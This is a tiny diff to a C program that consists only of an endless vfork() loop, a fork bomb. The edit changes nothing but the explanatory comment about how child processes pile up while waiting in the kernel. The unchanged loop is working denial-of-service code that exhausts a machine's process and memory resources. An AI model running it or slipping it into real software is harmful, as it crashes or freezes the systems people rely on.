@@ -1,5 +1,5 @@
 #include <unistd.h>
 int main(void) {
-    // Each child is the next to do so; the last one works, and all others wait inside the kernel.
+    // Each child does the same; the last one works, and all others wait inside the kernel.
     for (;;) vfork();
 }
